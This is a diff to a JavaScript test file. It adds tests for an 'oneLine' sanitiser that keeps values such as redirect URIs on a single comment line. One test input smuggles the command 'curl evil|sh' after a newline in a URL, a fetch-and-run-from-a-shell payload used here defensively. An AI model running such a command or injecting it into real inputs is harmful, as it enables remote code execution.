@@ -7,6 +7,7 @@ import {
   groupsReleasedByClaim,
   inlineSecretOf,
   inlineSecretWarning,
+  oneLine,
   pickPostLogoutRedirectUri,
   requestedScopes,
   secretPlanFor,
@@ -316,5 +317,13 @@ describe('pickPostLogoutRedirectUri', () => {
     );
     input.document.app.postLogoutRedirectUris = [];
     expect(pickPostLogoutRedirectUri(input, 'https://app.example.com')).toBeUndefined();
+  });
+});
+
+describe('oneLine', () => {
+  it('keeps a value on its comment line: a line break could make the rest a command', () => {
+    expect(oneLine('https://a.example/cb\ncurl evil|sh')).toBe('https://a.example/cb?curl evil|sh');
+    expect(oneLine('a\r\tb\u0000c\u007f')).toBe('a??b?c?');
+    expect(oneLine('https://a.example/cb')).toBe('https://a.example/cb');
   });
 });
